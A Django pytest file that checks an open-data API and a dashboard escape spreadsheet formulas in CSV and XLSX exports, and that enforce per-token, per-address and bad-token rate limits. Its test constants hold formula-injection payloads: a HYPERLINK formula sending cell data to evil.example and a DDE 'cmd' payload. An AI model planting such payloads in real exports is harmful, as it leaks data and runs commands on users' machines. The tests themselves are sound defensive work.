"""Issue #22, item 8: formula injection through the open-data CSV and the dashboard export, and the open-data
API's limits (per token, per address, back-off after bad tokens, and no 500 when the cache is down)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from hall.models import ExportPull
from tests.factories import EmployerFactory, PostFactory, TradeFactory, UserFactory

from .conftest import DASH, hall_staff
from .test_opendata import get, make_token

pytestmark = pytest.mark.django_db
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")'
EMPLOYER = "@SUM(1+1)*cmd|' /C calc'!A0"
TRADE = '=HYPERLINK("http://e.cn","点")'  # a trade name holds at most 30 characters


@pytest.fixture
def admin_user(db):
    return UserFactory(phone="13900000001", name="管理员", role="staff", is_staff=True, is_superuser=True)


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_open_data_csv_neutralises_titles_and_employer_names(client, admin_user, mason, east):
    employer = EmployerFactory(name=EMPLOYER, created_by=UserFactory(role="employer"))
    PostFactory(employer=employer, trade=mason, area=east, district=east.parent, title=TITLE)
    _, token = make_token(admin_user, ["posts"])
    rows = _csv(get(client, "posts", token=token, format="csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("title")] == "'" + TITLE
    assert row[header.index("employer")] == "'" + EMPLOYER
    assert row[header.index("pay_fen")].isdigit()  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_dashboard_csv_and_xlsx_neutralise_what_staff_typed(client, market, east, employer):
    trade = TradeFactory(name=TRADE, category="construction")
    PostFactory(employer=employer, trade=trade, area=east, district=east.parent, slots=3)
    client.force_login(hall_staff("13900000131", "区市场导出", market, *DASH))
    text = client.get(reverse("hall:dashboard_export", args=["csv"])).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + TRADE in cells and TRADE not in cells
    book = load_workbook(io.BytesIO(client.get(reverse("hall:dashboard_export", args=["xlsx"])).content))
    values = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in values)
    assert "'" + TRADE in [c.value for c in values]


# ---------------------------------------------------------------------------------------------- limits


@pytest.fixture
def limits(settings):
    # A cache of this process's own: another suite clearing the shared test Redis mid-test would reset
    # the counts (the limiter only uses the cache API; the Redis-down case is tested below).
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}}
    cache.clear()  # this process's memory only; counts from an earlier test must not carry over
    settings.HALL_OPEN_DATA_TOKEN_PER_MINUTE = 3
    settings.HALL_OPEN_DATA_ADDRESS_PER_MINUTE = 5
    settings.HALL_OPEN_DATA_BAD_TOKENS_FREE = 3
    settings.HALL_OPEN_DATA_BACKOFF_BASE = 60
    return settings


def _at(moment):
    return time_machine.travel(moment, tick=False)


def test_each_token_has_a_rate_per_minute(client, admin_user, limits):
    _, token = make_token(admin_user, ["posts"])
    _, other = make_token(admin_user, ["posts"])
    start = timezone.now().replace(second=5, microsecond=0) + dt.timedelta(minutes=1)
    with _at(start):
        assert [get(client, "posts", token=token).status_code for _ in range(3)] == [200, 200, 200]
        refused = get(client, "posts", token=token)
        assert refused.status_code == 429 and refused.json()["code"] == "rate_limited"
        assert 1 <= int(refused["Retry-After"]) <= 60
        assert get(client, "posts", token=other).status_code == 200  # another token has its own count
    with _at(start + dt.timedelta(minutes=1)):
        assert get(client, "posts", token=token).status_code == 200
    assert ExportPull.objects.filter(status_code=429).count() == 1


def test_each_address_has_a_rate_per_minute_whatever_the_token(client, admin_user, limits):
    tokens = [make_token(admin_user, ["posts"])[1] for _ in range(3)]
    with _at(timezone.now().replace(second=5, microsecond=0) + dt.timedelta(minutes=1)):
        codes = [get(client, "posts", token=tokens[i % 3]).status_code for i in range(6)]
        assert codes == [200, 200, 200, 200, 200, 429]
        other = client.get(reverse("api:open-data", args=["posts"]), headers={"authorization": f"Bearer {tokens[0]}"},
                           REMOTE_ADDR="10.9.9.9")  # fmt: skip
        assert other.status_code == 200


def test_bad_tokens_from_an_address_back_off_with_a_growing_wait(client, admin_user, limits):
    _, good = make_token(admin_user, ["posts"])
    start = timezone.now()
    with _at(start):
        assert [get(client, "posts", token=f"gmx_guess{i}").status_code for i in range(3)] == [401] * 3
        locked = get(client, "posts", token=good)  # locked out: even a real token waits
        assert locked.status_code == 429 and locked.json()["code"] == "too_many_bad_tokens"
        assert int(locked["Retry-After"]) == 60
    with _at(start + dt.timedelta(seconds=61)):
        assert get(client, "posts", token="gmx_guess4").status_code == 401
        assert int(get(client, "posts", token=good)["Retry-After"]) == 120
    with _at(start + dt.timedelta(seconds=61 + 121)):
        assert get(client, "posts", token="gmx_guess5").status_code == 401
        assert int(get(client, "posts", token=good)["Retry-After"]) == 240
    # Another address is not affected.
    with _at(start + dt.timedelta(seconds=200)):
        response = client.get(reverse("api:open-data", args=["posts"]), headers={"authorization": f"Bearer {good}"},
                              REMOTE_ADDR="10.9.9.9")  # fmt: skip
        assert response.status_code == 200


@pytest.fixture
def cache_down(settings):
    """A Redis nobody listens on: every cache call raises a connection error."""
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.redis.RedisCache",
            "LOCATION": "redis://127.0.0.1:1/0",
        }
    }
    return settings


def test_with_the_cache_down_pulls_work_and_the_limits_hold_from_the_log(
    client,
    admin_user,
    limits,
    cache_down,
    caplog,
):
    _, token = make_token(admin_user, ["posts"])
    start = timezone.now().replace(second=5, microsecond=0) + dt.timedelta(minutes=1)
    with _at(start):
        assert [get(client, "posts", token=token).status_code for _ in range(4)] == [200, 200, 200, 429]
    assert "cache unavailable" in caplog.text
    with _at(start + dt.timedelta(minutes=2)):
        assert [get(client, "posts", token=f"gmx_guess{i}").status_code for i in range(3)] == [401] * 3
        locked = get(client, "posts", token=token)
        assert locked.status_code == 429 and locked.json()["code"] == "too_many_bad_tokens"
        assert 55 <= int(locked["Retry-After"]) <= 60


def test_a_request_without_a_client_address_is_limited_too_with_the_cache_down(limits, cache_down):
    from hall import throttle

    assert throttle.address_refusal(None) is None
    throttle.bad_token_seen(None)  # logged, not raised
